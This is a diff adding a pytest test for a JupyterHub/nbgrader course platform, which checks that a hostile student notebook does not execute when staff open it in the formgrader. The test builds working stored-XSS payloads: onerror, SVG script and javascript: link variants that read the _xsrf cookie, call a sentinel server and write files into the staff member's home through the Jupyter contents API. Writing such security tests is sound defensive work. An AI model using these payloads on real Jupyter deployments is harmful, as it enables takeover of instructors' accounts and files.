@@ -1,0 +1,159 @@
+"""Staff open a hostile submission in the formgrader and nothing of the student's runs (issue 21,
+case 1), in Debian's Chromium through the real hub.
+
+A student's lab1_tensorflow notebook displays HTML with an `onerror` handler, JavaScript, an SVG
+with a script, a PNG whose data is an attribute break-out, prints a <script>, and holds a new
+markdown cell with raw HTML and a javascript: link. Each payload, if it ran, would log a marker,
+call a sentinel server on another port, and write a file into the staff's home through the
+staff's own server (what the attack in the issue did). The submission goes through the course
+exchange, `nbgrader collect` and `introdl grade` (bwrap); staff then open it in the formgrader's
+manual-grading view.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pwd
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from nbgrader.api import Gradebook
+
+from introdl.hub.local import Hub
+from tests.hub import SCREENSHOTS, chromium
+from tests.test_hub_check_browser import log_in
+from tests.test_hub_csrf import attacker_site
+
+LAB = "lab1_tensorflow"
+STUDENT = "st-cy"
+ROOT = Path(__file__).resolve().parents[1]
+SHOTS = SCREENSHOTS / "xss"
+MARK = "INTRODL_PWNED"
+
+
+def payload_js(sentinel: str, teacher: str, how: str) -> str:
+    """What each payload runs: a console marker, a call home, a file in the staff's home."""
+    return (
+        f"console.log('{MARK} {how}');"
+        f"fetch('{sentinel}/{how}',{{mode:'no-cors'}});"
+        "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
+        f"fetch('/user/{teacher}/api/contents/pwned-{how}.txt',{{method:'PUT',"
+        "headers:{'X-XSRFToken':x,'Content-Type':'application/json'},"
+        "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
+    )
+
+
+def hostile_cell(sentinel: str, teacher: str) -> str:
+    js = {how: payload_js(sentinel, teacher, how) for how in ("html", "js", "svg", "png", "out")}
+    html = "<img src=x onerror=" + json.dumps(js["html"]) + ">"
+    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>' + js["svg"] + "</script></svg>"
+    png = 'x" onerror="' + js["png"] + '" a="'
+    script = "<script>" + js["out"] + "</script>"
+    return "\n".join(
+        [
+            "from IPython.display import HTML, Javascript, SVG, display",
+            f"display(HTML({html!r}))",
+            f"display(Javascript({js['js']!r}))",
+            f"display(SVG({svg!r}))",
+            f"display({{'image/png': {png!r}, 'text/plain': 'img'}}, raw=True)",
+            f"print({script!r})",
+        ]
+    )
+
+
+def hostile_markdown(sentinel: str, teacher: str) -> str:
+    js = payload_js(sentinel, teacher, "md")
+    return (
+        f"My answer <img src=x onerror={json.dumps(js)}>\n\n"
+        f"[read more](javascript:{js})\n\n<script>{js}</script>"
+    )
+
+
+def submit_hostile_notebook(hub: Hub, sentinel: str) -> None:
+    teacher = hub.settings.instructor
+    home = Path(pwd.getpwnam(STUDENT).pw_dir)
+    path = home / LAB / f"{LAB}.ipynb"
+    if not path.exists():
+        done = hub.nbgrader(STUDENT, "fetch_assignment", LAB, cwd=home)
+        assert done.returncode == 0, done.stdout + done.stderr
+    nb = json.loads(path.read_text())
+    code = next(c for c in nb["cells"] if "def func(a, b):" in "".join(c["source"]))
+    code["source"] = "".join(code["source"]) + "\n" + hostile_cell(sentinel, teacher)
+    index = nb["cells"].index(code)
+    nb["cells"].insert(
+        index + 1,
+        {"cell_type": "markdown", "metadata": {}, "source": hostile_markdown(sentinel, teacher)},
+    )
+    path.write_text(json.dumps(nb))
+    entry = pwd.getpwnam(STUDENT)
+    os.chown(path, entry.pw_uid, entry.pw_gid)
+    done = hub.nbgrader(STUDENT, "submit", LAB, cwd=home)
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+def collect_and_grade(hub: Hub) -> Path:
+    """What the TA does (as in test_hub_browser.py); the course folder."""
+    course = Path(pwd.getpwnam(hub.settings.instructor).pw_dir) / "course"
+    done = hub.nbgrader(hub.settings.instructor, "collect", LAB, "--update", cwd=course)
+    assert done.returncode == 0, done.stdout + done.stderr
+    graded = subprocess.run(
+        [sys.executable, "-m", "introdl.grading.cli", "grade", LAB, "--student", STUDENT],
+        env={
+            **os.environ,
+            "INTRODL_COURSE_ROOT": str(course),
+            "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
+            "PYTHONPATH": str(ROOT),  # this checkout's engine, whatever the venv points at
+        },
+        capture_output=True,
+        text=True,
+        check=False,
+        cwd=course,
+        timeout=600,
+    )
+    assert graded.returncode == 0, graded.stdout + graded.stderr
+    return course
+
+
+@pytest.fixture
+def browser():  # type: ignore[no-untyped-def]
+    with chromium(SHOTS) as launched:
+        yield launched
+
+
+def test_staff_open_a_hostile_submission_and_nothing_runs(browser, hub: Hub) -> None:  # type: ignore[no-untyped-def]
+    """Does anything a student's notebook produced run in the staff's formgrader view?"""
+    teacher = hub.settings.instructor
+    staff_home = Path(pwd.getpwnam(teacher).pw_dir)
+    hits: list[str] = []
+    with attacker_site({}, hits=hits) as sentinel:
+        submit_hostile_notebook(hub, sentinel)
+        course = collect_and_grade(hub)
+        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
+            submission = gb.find_submission_notebook(LAB, LAB, STUDENT).id
+
+        page = log_in(browser, hub, teacher)
+        page.wait_for_selector(".jp-LabShell")  # JupyterLab works under the staff server's CSP
+        console: list[str] = []
+        dialogs: list[str] = []
+        page.on("console", lambda message: console.append(message.text))
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        answer = page.goto(f"{hub.settings.url}/user/{teacher}/formgrader/submissions/{submission}")
+        assert answer is not None
+        assert answer.status == 200, page.inner_text("body")[:3000]
+        csp = answer.headers.get("content-security-policy", "")
+        page.wait_for_selector("text=introdl removed")  # what was stripped is said in words
+        page.wait_for_timeout(3000)
+        page.screenshot(path=str(SHOTS / "01-formgrader-hostile-submission.png"), full_page=True)
+        text = page.locator("body").inner_text()
+
+    assert [m for m in console if MARK in m] == []
+    assert dialogs == []
+    assert hits == []
+    assert sorted(p.name for p in staff_home.glob("pwned-*")) == []
+    assert "My answer <img src=x onerror=" in text  # the answer, shown as text
+    assert "script-src 'self' 'unsafe-inline'" in csp
+    assert "connect-src 'self'" in csp
+    assert "object-src 'none'" in csp
